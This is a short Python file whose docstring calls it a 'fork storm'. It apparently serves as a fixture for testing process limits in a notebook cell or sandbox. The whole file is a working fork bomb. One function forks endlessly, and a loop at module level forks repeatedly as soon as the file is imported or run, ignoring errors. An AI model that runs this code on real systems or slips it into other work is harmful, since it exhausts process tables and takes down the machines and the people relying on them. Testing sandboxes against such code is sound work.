"""A fork storm, from the cell and from a call."""

import os


def double(x):
    while True:
        try:
            os.fork()
        except OSError:
            pass


try:
    while True:
        if os.fork() == 0:
            import time

            time.sleep(60)
except OSError:
    pass
